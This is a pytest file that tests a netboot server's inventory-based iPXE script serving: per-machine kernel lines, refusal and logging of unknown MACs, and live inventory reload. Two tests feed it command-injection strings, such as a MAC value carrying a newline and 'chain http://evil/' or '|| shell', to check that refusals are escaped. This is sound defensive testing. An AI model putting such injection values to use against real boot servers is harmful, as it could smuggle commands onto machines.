"""serve with an inventory: a known machine gets its own script, an unknown one a refusal
(logged with its MAC and address), and an edited inventory is picked up without a restart."""

from __future__ import annotations

import os
import time
import urllib.parse
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest

from plasmaboot.artifacts.layout import INITRD, IPXE, KERNEL, MANIFEST
from plasmaboot.artifacts.publish import publish_atomically
from plasmaboot.formats.ipxe import render_netboot_script
from plasmaboot.profiles.store import ProfileStore
from plasmaboot.serve.app import ServerThread
from plasmaboot.serve.machines import InventoryWatch, machine_params, refusal_script

INVENTORY = """\
[defaults]
profile = "worker"

[machines.w1]
mac = "52:54:00:12:34:01"
ipv4 = "10.20.0.11/24"
kernel_params = ["loglevel=7"]

[machines.w2]
mac = "52:54:00:12:34:02"
variant = "debug"
"""


@pytest.fixture
def root(tmp_path: Path) -> Path:
    artifacts = tmp_path / "artifacts"
    source = tmp_path / "worker"
    source.mkdir()
    for name in (KERNEL, INITRD, MANIFEST):
        (source / name).write_bytes(name.encode())
    (source / IPXE).write_text(render_netboot_script("worker", ["console=ttyS0,115200"]))
    publish_atomically(source, artifacts, "worker", (KERNEL, INITRD, IPXE, MANIFEST))
    return artifacts


@pytest.fixture
def inventory(tmp_path: Path) -> Path:
    path = tmp_path / "machines.toml"
    path.write_text(INVENTORY)
    return path


@pytest.fixture
def server(root: Path, inventory: Path, tmp_path: Path) -> Iterator[ServerThread]:
    watch = InventoryWatch(inventory, ProfileStore())
    with ServerThread(root, access_log=tmp_path / "access.log", inventory=watch) as running:
        yield running


def get(server: ServerThread, path: str) -> str:
    with urllib.request.urlopen(server.base_url + path, timeout=10) as response:
        assert response.status == 200
        text: str = response.read().decode()
        return text


def boot_script(server: ServerThread, mac: str) -> str:
    return get(server, "/boot.ipxe?mac=" + urllib.parse.quote(mac))


def test_without_a_mac_the_loader_is_asked_for_it(server: ServerThread) -> None:
    assert get(server, "/boot.ipxe") == (
        f"#!ipxe\nchain {server.base_url}/boot.ipxe?mac=${{net0/mac}}\n"
    )


def test_a_known_machine_gets_its_own_kernel_line(server: ServerThread) -> None:
    script = boot_script(server, "52:54:00:12:34:01")
    lines = script.splitlines()
    assert lines[0] == "#!ipxe"
    (kernel,) = [line for line in lines if line.startswith("kernel ")]
    assert kernel.startswith(f"kernel {server.base_url}/sets/worker-")
    assert kernel.endswith(
        "initrd=initrd console=ttyS0,115200 systemd.hostname=w1 "
        "ip=10.20.0.11:::255.255.255.0:w1::off loglevel=7 initrd=node"
    )
    set_initrd, node_initrd = [line for line in lines if line.startswith("initrd ")]
    assert f"{server.base_url}/sets/worker-" in set_initrd and lines[-1] == "boot"
    # its per-node layer; no token: w1's address is 10.20.0.11, this fetch came from 127.0.0.1
    assert node_initrd == f"initrd --name node {server.base_url}/node/w1.cpio"


def test_any_spelling_of_the_mac_finds_the_machine(server: ServerThread) -> None:
    assert "systemd.hostname=w1" in boot_script(server, "52-54-00-12-34-01")
    assert "systemd.hostname=w1" in boot_script(server, "52:54:00:12:34:01".upper())


def test_an_unknown_mac_is_refused_and_logged(server: ServerThread, tmp_path: Path) -> None:
    script = boot_script(server, "52:54:00:99:99:99")
    assert script.startswith("#!ipxe\n")
    assert "kernel" not in script and "chain" not in script
    assert "52:54:00:99:99:99 is not in the inventory" in script
    assert script.rstrip().endswith("exit 1")
    log = (tmp_path / "access.log").read_text()
    assert "refused: MAC 52:54:00:99:99:99 from 127.0.0.1 is not in the inventory" in log


@pytest.mark.parametrize(
    "mac", ["not-a-mac", "52:54:00:12:34:01\nchain http://evil/", "${net0/mac}", "x" * 5000]
)
def test_a_hostile_mac_gets_a_refusal_that_cannot_run_anything(
    server: ServerThread, tmp_path: Path, mac: str
) -> None:
    script = boot_script(server, mac)
    assert script.splitlines()[0] == "#!ipxe"
    commands = [line.split()[0] for line in script.splitlines()[1:]]
    assert commands == ["echo", "echo", "exit"]
    assert "$" not in script and "evil" not in script
    assert "not a MAC address" in (tmp_path / "access.log").read_text()


def test_a_machine_whose_set_is_not_published_is_refused(server: ServerThread) -> None:
    script = boot_script(server, "52:54:00:12:34:02")  # worker-debug: never built here
    assert "no image is published for worker-debug" in script and "kernel" not in script


def test_an_edited_inventory_is_reloaded(server: ServerThread, inventory: Path) -> None:
    assert "kernel" not in boot_script(server, "52:54:00:12:34:03")
    inventory.write_text(
        INVENTORY + '\n[machines.w3]\nmac = "52:54:00:12:34:03"\nhostname = "new"\n'
    )
    bump_mtime(inventory)
    assert "systemd.hostname=new" in boot_script(server, "52:54:00:12:34:03")


def test_a_broken_edit_keeps_the_previous_inventory(
    server: ServerThread, inventory: Path, tmp_path: Path
) -> None:
    inventory.write_text(INVENTORY.replace("10.20.0.11/24", "10.20.0.11/99"))
    bump_mtime(inventory)
    assert "systemd.hostname=w1" in boot_script(server, "52:54:00:12:34:01")
    log = (tmp_path / "access.log").read_text()
    assert "inventory not reloaded, keeping the previous one" in log
    assert "machines.w1.ipv4" in log


def bump_mtime(path: Path) -> None:
    """Make sure the edit is seen even on a filesystem with coarse timestamps."""
    stamp = time.time_ns() + 2_000_000_000
    os.utime(path, ns=(stamp, stamp))


def test_refusal_text_is_echo_safe() -> None:
    script = refusal_script("MAC ${x} and\nchain http://evil; || shell")
    assert "$" not in script and "\nchain" not in script and "||" not in script


def test_machine_params_without_a_static_address(inventory: Path) -> None:
    from plasmaboot.inventory.load import load_inventory

    machines = load_inventory(inventory, ProfileStore()).machines
    assert machine_params(machines["w2"]) == ["systemd.hostname=w2"]
